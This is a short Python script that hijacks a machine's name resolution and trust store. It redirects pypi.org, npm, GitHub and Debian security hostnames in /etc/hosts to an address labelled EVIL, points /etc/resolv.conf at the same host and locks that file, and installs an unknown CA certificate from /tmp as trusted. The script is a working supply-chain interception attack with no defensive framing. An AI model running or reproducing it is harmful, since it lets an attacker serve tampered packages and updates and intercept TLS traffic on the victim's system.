import subprocess

EVIL = "203.0.113.99"
NAMES = ["pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "github.com", "security.debian.org"]

with open("/etc/hosts", "a") as f:
    f.writelines(f"{EVIL}\t{n}\n" for n in NAMES)
with open("/etc/resolv.conf", "w") as f:
    f.write(f"nameserver {EVIL}\n")
subprocess.run(["chattr", "+i", "/etc/resolv.conf"])
subprocess.run("cp /tmp/ca.crt /usr/local/share/ca-certificates/corp.crt && update-ca-certificates", shell=True)
